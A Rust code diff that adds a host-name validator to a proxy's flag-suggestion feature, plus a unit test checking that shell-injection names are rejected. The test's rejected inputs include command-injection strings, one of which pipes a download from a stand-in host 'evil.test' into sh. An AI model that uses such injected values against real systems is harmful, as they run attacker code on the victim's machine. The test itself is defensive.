@@ -69,7 +69,15 @@ pub(crate) fn tell(log: &Log, output: &Output) {
 
 /// Returns the flag that would allow it, where one would.
 pub(crate) fn remedy(entry: &Entry) -> Option<String> {
-    may_be_allowed(entry.decision).then(|| format!("--net {}", word(entry)))
+    let proposed = may_be_allowed(entry.decision) && is_host(&entry.host);
+    proposed.then(|| format!("--net {}", word(entry)))
+}
+
+/// Tells whether a rule could name it. A client of the proxy chooses the name, and what is proposed
+/// is copied into a shell.
+fn is_host(name: &str) -> bool {
+    let is_plain = |it: u8| it.is_ascii_alphanumeric() || b".-_:[]".contains(&it);
+    !name.is_empty() && !name.starts_with('-') && name.bytes().all(is_plain)
 }
 
 fn may_be_allowed(decision: Decision) -> bool {
@@ -102,5 +110,22 @@ fn why(entry: &Entry) -> String {
         Decision::OtherServer => "another server was asked for in the connection".to_owned(),
         Decision::Unreachable(errno) => format!("it can't be reached: {errno}"),
         Decision::Unresolved => "its name can't be resolved".to_owned(),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::is_host;
+
+    #[test]
+    fn nothing_is_proposed_that_a_shell_would_run() {
+        for name in ["a.test", "xn--bcher-kva.test", "192.0.2.1", "[2001:db8::1]", "_x.test"] {
+            assert!(is_host(name), "{name}");
+        }
+        for name in
+            ["a.test;curl evil.test|sh", "$(id)", "a b", "`id`", "a'b", "--rw", "", "a\u{202e}b"]
+        {
+            assert!(!is_host(name), "{name}");
+        }
     }
 }
